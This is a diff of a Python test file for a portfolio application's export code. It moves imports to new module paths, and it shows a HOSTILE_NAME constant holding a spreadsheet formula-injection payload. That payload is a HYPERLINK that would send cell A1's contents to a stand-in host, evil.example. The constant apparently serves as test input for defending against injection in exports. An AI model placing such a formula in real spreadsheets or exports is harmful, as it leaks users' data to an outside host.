@@ -13,8 +13,11 @@ import openpyxl
 import pandas as pd
 import pytest
 
-from portfolio import db, demo, export, flags, store
-from portfolio.models import InvalidInput
+from portfolio import flags
+from portfolio.domain.errors import InvalidInput
+from portfolio.services import demo
+from portfolio.services.reporting import export
+from portfolio.storage import db, store
 from tests.conftest import AS_OF
 
 HOSTILE_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
